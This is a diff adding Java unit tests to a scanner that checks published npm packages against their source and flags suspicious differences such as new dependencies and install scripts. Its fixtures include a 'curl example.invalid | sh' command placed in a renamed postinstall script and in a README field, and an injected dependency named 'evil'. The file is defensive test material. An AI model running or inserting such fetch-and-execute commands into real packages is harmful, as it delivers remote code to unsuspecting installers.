@@ -407,4 +407,183 @@ class NpmScanTest {
         assertTrue(boot.highRisk());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
+    /** Commits {@code tree} without a tag (a pre-release published from a working tree) and scans {@code version}. */
+    private ArtifactReport publishUntaggedAndScan(SortedMap<String, byte[]> tree, String version,
+                                                  SortedMap<String, byte[]> shipped) throws Exception {
+        commit(tree, "work");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish(version, shipped);
+            return scan(npm, "pkg:npm/widget", version).artifacts().get(0);
+        }
+    }
+
+    private static final String PRE_BASE = ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\"},\n"
+            + "  \"scripts\": {\"test\": \"tap\"}";
+
+    private static SortedMap<String, byte[]> preTree() {
+        return files("package.json", pkgJson("widget", "6.6.0", PRE_BASE), "index.js", "module.exports = 1;\n",
+                "cli.js", "require('./index');\n");
+    }
+
+    @Test
+    void aPreReleaseWhoseManifestDiffersOnlyByThisReleasesVersionIsExplained() throws Exception {
+        SortedMap<String, byte[]> tree = preTree();
+        ArtifactReport a = publishUntaggedAndScan(tree, "6.6.1-candidate.0", with(tree, "package.json",
+                pkgJson("widget", "6.6.1-candidate.0", PRE_BASE)));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(FileStatus.MATCH_NORMALIZED, pj.status());
+        assertEquals(NpmGeneratedFiles.VERSION_ONLY, pj.ruleId());
+        assertEquals("only the version differs: published 6.6.1-candidate.0, source declares 6.6.0",
+                pj.detail().orElseThrow());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    @Test
+    void theVersionOnlyRuleExplainsNothingBesideTheVersion() throws Exception {
+        SortedMap<String, byte[]> tree = preTree();
+        commit(tree, "work");
+        // each payload sits beside a version bump; none may ride on the version-only explanation
+        String[][] cases = {
+                {"7.0.0-alpha.1", pkgJson("widget", "7.0.0-alpha.1", PRE_BASE).replace("./index.js", "./loader.js"),
+                        "package.json fields differ: [main, version]"},
+                {"7.0.0-alpha.2", pkgJson("widget", "7.0.0-alpha.2", PRE_BASE.replace("\"tap\"", "\"tap\", \"lint\": \"x\"")),
+                        "package.json fields differ: [scripts, version]"},
+                {"7.0.0-alpha.3", pkgJson("widget", "7.0.0-alpha.3", PRE_BASE + ",\n  \"engines\": {\"node\": \">=4\"}"),
+                        "package.json fields differ: [engines, version]"},
+                {"7.0.0-alpha.4", pkgJson("widget", "7.0.0", PRE_BASE), "package.json fields differ: [version]"},
+        };
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            for (String[] c : cases) {
+                npm.publish(c[0], with(tree, "package.json", c[1], "loader.js", "module.exports = 2;\n"));
+            }
+            npm.publish("7.0.0-alpha.5", with(tree, "package.json", pkgJson("widget", "7.0.0-alpha.5",
+                    PRE_BASE.replace("{\"left-pad\": \"^1.0.0\"}", "{\"left-pad\": \"^1.0.0\", \"evil\": \"1.0.0\"}"))));
+            for (String[] c : cases) {
+                FileDivergence pj = row(scan(npm, "pkg:npm/widget", c[0]).artifacts().get(0), "package/package.json");
+                assertEquals(FileStatus.MODIFIED, pj.status(), c[0]);
+                assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId(), c[0]);
+                assertEquals(c[2], pj.detail().orElseThrow(), c[0]);
+            }
+            npm.publish("7.0.0-alpha.6", with(tree, "package.json", pkgJson("widget", "7.0.0-alpha.6",
+                    PRE_BASE.replace("^1.0.0", "^1.3.0"))));
+            for (String v : List.of("7.0.0-alpha.5", "7.0.0-alpha.6")) {
+                ReleaseReport dep = scan(npm, "pkg:npm/widget", v);
+                FileDivergence pj = row(dep.artifacts().get(0), "package/package.json");
+                assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId(), v);
+                assertEquals(Verdict.HIGH_RISK, dep.verdict(), v);
+            }
+        }
+    }
+
+    @Test
+    void developmentOnlyFieldsRemovedAtPublishAreExplainedWithTheVersionBump() throws Exception {
+        String extra = ",\n  \"packageManager\": \"pnpm@10.14.0\",\n  \"prettier\": {\"semi\": false},\n"
+                + "  \"devDependencies\": {\"jest\": \"29\"},\n  \"scripts\": {\"prepare\": \"husky\", \"test\": \"jest\","
+                + " \"build\": \"tsc\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.0.0", extra),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishUntaggedAndScan(tree, "3.0.0-canary.1", with(tree, "package.json",
+                pkgJson("widget", "3.0.0-canary.1", ",\n  \"scripts\": {\"build\": \"tsc\"}")));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(FileStatus.MATCH_NORMALIZED, pj.status());
+        assertEquals(NpmGeneratedFiles.VERSION_ONLY, pj.ruleId());
+        assertEquals("only the version differs: published 3.0.0-canary.1, source declares 3.0.0; development-only "
+                + "fields removed at publish: [devDependencies, packageManager, prettier, scripts.prepare, scripts.test]",
+                pj.detail().orElseThrow());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    @Test
+    void strippingDevelopmentFieldsNeverExplainsARemovedEntryPointOrInstallScriptOrAChangedValue() throws Exception {
+        String extra = ",\n  \"prettier\": {\"semi\": false},\n"
+                + "  \"scripts\": {\"test\": \"jest\", \"postinstall\": \"node setup.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.1.0", extra),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "setup.js", "1;\n",
+                "main.js", "module.exports = 2;\n");
+        commit(tree, "3.1.0");
+        git.tag("v3.1.0", false);
+        String keepPostinstall = ",\n  \"scripts\": {\"postinstall\": \"node setup.js\"}";
+        String[][] cases = {
+                // main removed: the entry point falls back to index.js
+                {"3.1.0", "{\"name\": \"widget\", \"version\": \"3.1.0\", \"bin\": \"./cli.js\", \"repository\": "
+                        + "\"github:acme/widget\", \"scripts\": {\"postinstall\": \"node setup.js\"}}",
+                        "package.json fields differ: [main]"},
+                // the install script removed is not a development field
+                {"3.1.1", pkgJson("widget", "3.1.0", ""), "package.json fields differ: [scripts]"},
+                // a development field whose value changed is not a removal
+                {"3.1.2", pkgJson("widget", "3.1.0", ",\n  \"prettier\": {\"semi\": true}" + keepPostinstall),
+                        "package.json fields differ: [prettier]"},
+        };
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            for (String[] c : cases) {
+                npm.publish(c[0], with(tree, "package.json", c[1]));
+            }
+            for (String[] c : cases) {
+                FileDivergence pj = row(scan(npm, "pkg:npm/widget", c[0]).artifacts().get(0), "package/package.json");
+                assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId(), c[0]);
+                assertEquals(c[2], pj.detail().orElseThrow(), c[0]);
+            }
+        }
+    }
+
+    @Test
+    void pinstRenamingPostinstallIsExplainedOnlyWhenTheRenamedScriptIsTheSources() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "8.0.0",
+                ",\n  \"scripts\": {\"postinstall\": \"husky install\", \"test\": \"tap\"}"),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
+        commit(tree, "8.0.0");
+        git.tag("v8.0.0", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("8.0.0", with(tree, "package.json", pkgJson("widget", "8.0.0",
+                    ",\n  \"scripts\": {\"_postinstall\": \"husky install\", \"test\": \"tap\"}")));
+            npm.publish("8.0.1", with(tree, "package.json", pkgJson("widget", "8.0.0",
+                    ",\n  \"scripts\": {\"_postinstall\": \"curl example.invalid | sh\", \"test\": \"tap\"}")));
+            npm.publish("8.0.2", with(tree, "package.json", pkgJson("widget", "8.0.0",
+                    ",\n  \"scripts\": {\"_postinstall\": \"husky install\", \"postinstall\": \"node x.js\", \"test\": \"tap\"}")));
+            FileDivergence ok = row(scan(npm, "pkg:npm/widget", "8.0.0").artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.MATCH_NORMALIZED, ok.status());
+            assertEquals(NpmGeneratedFiles.PINST_DISABLED, ok.ruleId());
+            FileDivergence other = row(scan(npm, "pkg:npm/widget", "8.0.1").artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, other.ruleId());
+            assertEquals("package.json fields differ: [scripts]", other.detail().orElseThrow());
+            FileDivergence both = row(scan(npm, "pkg:npm/widget", "8.0.2").artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, both.ruleId());
+            assertTrue(both.highRisk());
+        }
+    }
+
+    @Test
+    void oldNpmsReadmeFieldIsExplainedOnlyWhenItIsTheShippedReadme() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "0.9.0", ""),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "README.md", "# widget\n\nUse it.\n");
+        commit(tree, "0.9.0");
+        git.tag("v0.9.0", false);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("0.9.0", with(tree, "package.json", pkgJson("widget", "0.9.0",
+                    ",\n  \"readme\": \"# widget\\n\\nUse it.\",\n  \"readmeFilename\": \"README.md\",\n  \"_id\": \"widget@0.9.0\","
+                            + "\n  \"_from\": \".\"")));
+            npm.publish("0.9.1", with(tree, "package.json", pkgJson("widget", "0.9.0",
+                    ",\n  \"readme\": \"# widget\\n\\nRun: curl example.invalid | sh\",\n  \"readmeFilename\": \"README.md\"")));
+            FileDivergence ok = row(scan(npm, "pkg:npm/widget", "0.9.0").artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.MATCH_NORMALIZED, ok.status());
+            assertEquals(NpmGeneratedFiles.README_FIELD, ok.ruleId());
+            FileDivergence other = row(scan(npm, "pkg:npm/widget", "0.9.1").artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, other.ruleId());
+            assertEquals("package.json fields differ: [readme, readmeFilename]", other.detail().orElseThrow());
+        }
+    }
+
+    @Test
+    void aDependencySpecRewrittenToThisReleasesVersionIsNotAVersionString() throws Exception {
+        // the text rule would see only a version token turned into the release's; package.json is compared as data
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "9.0.0",
+                ",\n  \"dependencies\": {\"helper\": \"9.0.0\"}"), "index.js", "module.exports = 1;\n",
+                "cli.js", "require('./index');\n");
+        ArtifactReport a = publishUntaggedAndScan(tree, "9.0.1", with(tree, "package.json", pkgJson("widget", "9.0.1",
+                ",\n  \"dependencies\": {\"helper\": \"9.0.1\"}")));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
+        assertEquals("new dependencies [helper 9.0.1 (source: 9.0.0)]", pj.detail().orElseThrow());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
 }
